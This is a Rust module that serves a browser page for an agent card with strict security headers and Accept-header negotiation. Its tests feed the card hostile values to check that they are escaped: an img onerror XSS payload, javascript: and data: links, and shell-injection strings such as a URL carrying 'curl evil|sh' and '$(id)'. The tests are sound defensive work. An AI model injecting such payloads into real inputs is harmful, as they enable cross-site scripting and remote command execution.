//! The page of an agent, for people who open its address in a browser.

mod call;
mod html;

use a2a_core::{AgentCard, Error, Result};
use axum::{
    Router,
    body::Body,
    extract::Request,
    response::{IntoResponse as _, Response},
    routing::get,
};
use futures_util::FutureExt as _;
use http::{
    HeaderMap, HeaderName, HeaderValue, Method, StatusCode,
    header::{
        ACCEPT, ALLOW, CACHE_CONTROL, CONTENT_SECURITY_POLICY, CONTENT_TYPE, REFERRER_POLICY, VARY,
        X_CONTENT_TYPE_OPTIONS,
    },
    request::Parts,
};
use tower::ServiceExt as _;

use crate::{card::CardDocument, head_check::answer_heads};
use html::{fill, fill_each, link, section};

/// The headers of every page. Nothing is loaded and nothing runs: the style is named by its hash.
const HEADERS: [(HeaderName, &str); 8] = [
    (CONTENT_TYPE, "text/html; charset=utf-8"),
    (
        CONTENT_SECURITY_POLICY,
        "default-src 'none'; style-src 'sha256-27rufgLkkCyOeHFXuIJ/fWeQ/xCG3sFXaV3qYDOUerE='; base-uri 'none'; form-action 'none'; \
         frame-ancestors 'none'",
    ),
    (X_CONTENT_TYPE_OPTIONS, "nosniff"),
    (REFERRER_POLICY, "no-referrer"),
    (HeaderName::from_static("cross-origin-resource-policy"), "same-origin"),
    (VARY, "accept"),
    (CACHE_CONTROL, "no-cache"),
    // In place of what the route of JSON-RPC adds.
    (ALLOW, "GET, HEAD, POST"),
];

const STYLE: &str = include_str!("card_page/style.css");

/// An agent in a list of agents.
#[derive(Clone, Debug)]
pub struct ListedAgent {
    /// The name in its card.
    pub name: String,
    /// The description in its card.
    pub description: String,
    /// Its public URL.
    pub url: String,
}

/// A page about an agent, or about the agents of a port: without scripts, and with every text of a
/// card escaped.
#[derive(Clone, Debug)]
pub struct CardPage(CardDocument);

impl CardPage {
    /// Renders the public card of the agent at `url`, and links to the other agents of its port.
    ///
    /// # Errors
    ///
    /// [`Internal`](a2a_core::ErrorKind::Internal) if the card cannot be serialized.
    pub fn new(card: &AgentCard, url: &str, others: &[ListedAgent]) -> Result<Self> {
        let json = serde_json::to_string_pretty(card).map_err(Error::internal)?;
        let provider = card.provider.as_ref();
        let provider = provider.map(|one| format!("by {}", link(&one.url, &one.organization)));
        let documentation = card.documentation_url.as_deref();
        let documentation = documentation.map(|url| link(url, "Documentation"));
        let document = format!("{url}{}", crate::card::WELL_KNOWN_PATH);
        let body = fill(
            include_str!("card_page/card.html"),
            &[
                ("name", &card.name),
                ("description", &card.description),
                ("version", &card.version),
                ("&provider", &provider.unwrap_or_default()),
                ("&documentation", &documentation.unwrap_or_default()),
                ("&document", &link(&document, "Agent card")),
                ("&calls", &call::section(card, url)),
                ("&skills", &skills(card)),
                ("&interfaces", &interfaces(card)),
                ("&properties", &properties(card)),
                ("&others", &list("Other agents on this port", others)),
                ("json", &json),
            ],
        );
        Ok(Self::of(&card.name, &body))
    }

    /// Renders a list of the agents of a port.
    pub fn of_agents(agents: &[ListedAgent]) -> Self {
        Self::of("Agents", &format!("<h1>Agents</h1>\n{}", list("On this port", agents)))
    }

    fn of(title: &str, body: &str) -> Self {
        let values = [("title", title), ("&style", STYLE), ("&body", body)];
        Self(CardDocument::from_json(fill(include_str!("card_page/page.html"), &values)))
    }

    /// Responds to a GET with these headers: with the page, or 304 if the cached copy is current.
    pub fn respond(&self, headers: &HeaderMap) -> Response {
        let mut response = self.0.respond(headers);
        for (name, value) in HEADERS {
            response.headers_mut().insert(name, HeaderValue::from_static(value));
        }
        response
    }

    /// Returns a router that responds to GET and HEAD at `/` with the page.
    pub fn into_router(self) -> Router {
        Router::new().route("/", get(async move |headers: HeaderMap| self.respond(&headers)))
    }
}

/// Answers browsers at `/` with the routes in `pages`, unless `own` has a route there.
/// Other requests, and those of clients that don't ask for HTML, reach `router`.
pub fn layer(router: Router, own: Router, pages: Router) -> Router {
    answer_heads(router, move |parts| {
        if !asks_for_page(parts) {
            return None;
        }
        let (own, pages, parts) = (own.clone(), pages.clone(), parts.clone());
        let answer = async move {
            let request = || Request::from_parts(parts.clone(), Body::empty());
            let response = own.oneshot(request()).await.into_response();
            let is_free = response.status() == StatusCode::NOT_FOUND;
            Ok(if is_free { pages.oneshot(request()).await.into_response() } else { response })
        };
        Some(answer.boxed())
    })
}

/// Returns whether a request is for the page at `/`: a GET or HEAD of a client that names HTML, and
/// prefers nothing else that agents send (RFC 9110 §12.5.1). `*/*` is not enough: curl sends it.
pub fn asks_for_page(request: &Parts) -> bool {
    if request.uri.path() != "/" || !matches!(request.method, Method::GET | Method::HEAD) {
        return false;
    }
    let (mut html, mut other) = (0.0, 0.0);
    let lines = request.headers.get_all(ACCEPT).iter().filter_map(|line| line.to_str().ok());
    for range in lines.flat_map(|line| line.split(',')).map(str::to_ascii_lowercase) {
        let mut words = range.split(';').map(str::trim);
        let media_type = words.next().unwrap_or_default();
        let quality = words.find_map(|word| word.strip_prefix("q="));
        let quality = quality.map_or(1.0, |text| text.parse::<f32>().unwrap_or_default());
        if matches!(media_type, "text/html" | "application/xhtml+xml") {
            html = quality.max(html);
        } else if media_type.ends_with("json") || media_type == "text/event-stream" {
            other = quality.max(other);
        }
    }
    html > 0.0 && html >= other
}

fn list(title: &str, agents: &[ListedAgent]) -> String {
    let item = |agent: &ListedAgent| {
        let values =
            [("&name", &*link(&agent.url, &agent.name)), ("description", &agent.description)];
        fill("<dt>{{&name}}</dt><dd>{{description}}</dd>\n", &values)
    };
    let items: String = agents.iter().map(item).collect();
    section(title, "<dl>\n{{&items}}</dl>", &items)
}

fn skills(card: &AgentCard) -> String {
    let skills = card.skills.iter().map(|skill| {
        let examples = fill_each("<li><q>{{.}}</q></li>", &skill.examples);
        let values = [
            ("name", &*skill.name),
            ("id", &skill.id),
            ("description", &skill.description),
            ("&tags", &fill_each(" <span>{{.}}</span>", &skill.tags)),
            ("&examples", &examples),
        ];
        fill(
            "<article><h3>{{name}} <code>{{id}}</code></h3><p>{{description}}</p>\n\
             <ul>{{&examples}}</ul><p class=\"tags\">{{&tags}}</p></article>\n",
            &values,
        )
    });
    section("Skills", "{{&items}}", &skills.collect::<String>())
}

fn interfaces(card: &AgentCard) -> String {
    let rows = card.supported_interfaces.iter().map(|one| {
        let tenant =
            if one.tenant.is_empty() { String::new() } else { format!(" (tenant {})", one.tenant) };
        let values = [
            ("binding", &*one.protocol_binding),
            ("version", &one.protocol_version),
            ("url", &one.url),
            ("tenant", &tenant),
        ];
        fill(
            "<tr><td>{{binding}}</td><td>{{version}}</td><td><code>{{url}}</code>{{tenant}}</td></tr>\n",
            &values,
        )
    });
    section("Interfaces", "<table>\n{{&items}}</table>", &rows.collect::<String>())
}

fn properties(card: &AgentCard) -> String {
    let answer = |can: bool| if can { "yes" } else { "no" }.to_owned();
    let extensions: Vec<_> = card.extensions().iter().map(|one| one.uri.as_str()).collect();
    let schemes: Vec<_> = card.security_schemes.keys().map(String::as_str).collect();
    let rows = [
        ("Streaming", answer(card.can_stream())),
        ("Push notifications", answer(card.can_push())),
        ("Extended card", answer(card.has_extended_card())),
        ("Extensions", extensions.join(", ")),
        ("Input", card.default_input_modes.join(", ")),
        ("Output", card.default_output_modes.join(", ")),
        ("Security schemes", schemes.join(", ")),
        ("Requires credentials", answer(!card.security_requirements.is_empty())),
        ("Signed", answer(!card.signatures.is_empty())),
    ];
    let shown = rows.iter().filter(|(_, value)| !value.is_empty());
    let row = |(name, value): &(&str, String)| {
        fill("<dt>{{name}}</dt><dd>{{value}}</dd>\n", &[("name", name), ("value", value)])
    };
    section("Properties", "<dl>\n{{&items}}</dl>", &shown.map(row).collect::<String>())
}

#[cfg(test)]
mod tests {
    use a2a_core::{
        Part,
        v1::{AgentSkill, SecurityScheme},
    };
    use http_body_util::BodyExt as _;

    use super::*;

    async fn page(card: &AgentCard, url: &str) -> String {
        let page = CardPage::new(card, url, &[]).unwrap();
        let body = page.respond(&HeaderMap::new()).into_body().collect().await.unwrap();
        String::from_utf8(body.to_bytes().to_vec()).unwrap()
    }

    #[test]
    fn content_security_policy_names_the_style() {
        let digest = ring::digest::digest(&ring::digest::SHA256, STYLE.as_bytes());
        // The protocol writes bytes in Base64.
        let part = serde_json::to_value(Part::raw(digest.as_ref().to_vec())).unwrap();
        let source = format!("style-src 'sha256-{}'", part["raw"].as_str().unwrap());
        let policy =
            HEADERS.into_iter().find(|(name, _)| *name == CONTENT_SECURITY_POLICY).unwrap();
        assert!(policy.1.contains(&source), "{source}");
    }

    #[tokio::test]
    async fn hostile_texts_of_a_card_are_texts_of_the_page() {
        let hostile = "<img src=x onerror=alert(1)>\"' {{&style}} {{json}} \u{0}&";
        let scheme = SecurityScheme::api_key_header(hostile);
        let mut card = AgentCard::new(hostile, hostile)
            .with_version(hostile)
            .with_provider(hostile, "javascript:alert(1)")
            .with_skill(
                AgentSkill::new(hostile, hostile, hostile)
                    .with_tags([hostile])
                    .with_examples([hostile]),
            )
            .with_input_modes([hostile])
            .with_security_scheme(hostile, scheme)
            .with_interface("JSONRPC", "http://a';curl evil|sh;'")
            .with_interface(hostile, hostile);
        card.documentation_url = Some("data:text/html,<script>".to_owned());
        let page = page(&card, "http://localhost:8080").await;
        assert!(!page.contains("<img") && !page.contains("<script"), "{page}");
        assert!(!page.contains("href=\"javascript") && !page.contains("href=\"data"), "{page}");
        assert!(page.contains("{{&amp;style}} {{json}} \u{fffd}&amp;"), "{page}");
        assert!(!page.contains("curl 'http://a"), "{page}");
        // A URL that a shell or a language would read as more than a text is in no command.
        let page = self::page(&AgentCard::new("a", "b"), "http://a'$(id)").await;
        assert!(!page.contains("a2a send"), "{page}");
    }

    #[test]
    fn page_requires_html_in_accept_and_no_preferred_json() {
        for (accept, is_wanted) in [
            ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", true),
            ("TEXT/HTML", true),
            ("application/xhtml+xml", true),
            ("text/html;level=1;q=0.5, application/json;q=0.4", true),
            ("text/html;q=0.5, application/a2a+json", false),
            ("text/html;q=0", false),
            ("text/html;q=x", false),
            ("*/*", false),
            ("text/*", false),
            ("", false),
        ] {
            let request = http::Request::builder().uri("/").header(ACCEPT, accept).body(());
            let (parts, ()) = request.unwrap().into_parts();
            assert_eq!(asks_for_page(&parts), is_wanted, "{accept}");
        }
    }
}
